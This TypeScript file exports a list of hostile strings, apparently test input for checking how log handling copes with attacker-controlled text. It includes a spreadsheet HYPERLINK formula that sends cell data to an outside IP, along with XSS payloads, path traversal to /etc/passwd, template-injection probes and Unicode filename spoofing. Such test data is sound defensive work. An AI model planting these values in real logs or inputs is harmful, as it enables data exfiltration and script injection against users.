/** Strings that an attacker can put into a log, and that break programs which take text for something else. */
export const hostileStrings: readonly string[] = [
  '=HYPERLINK("http://203.0.113.66/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', ' =1+1',
  '</td><script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "' onmouseover='x", '<!--', ']]>', '&lt;b&gt;&#x41;', '</style><style>*{display:none}', 'javascript:alert(1)',
  'a,b;c\t"d""e"', 'line one\r\nline two\nline three\rline four', 'nul\u0000inside', 'bell\u0007 esc\u001b[31mred', 'user\u202egnp.exe', '\u2066isolated\u2069\u200f', '\ufeffbom', 'zero\u200bwidth\u200djoin',
  'lone \ud800 surrogate', '\udc00\ud800', 'tag \u{e0041}\u{e007f}', 'noncharacter \uffff \u{1ffff}', 'عربي ภาษาไทย हिन्दी 🙂👩‍👩‍👧', '한국어 글자와 汉字 かな', 'u\u0308\u0301\u0323', '%s%n%x ${7*7} {{7*7}}',
  '__proto__', 'constructor', '../../../etc/passwd', 'CON', 'x'.repeat(3000), 'arn:aws:iam::123456789012:role/' + 'very-long-path/'.repeat(60), '(\\)<<>>%PDF-1.4 endobj stream', '', ' ',
];
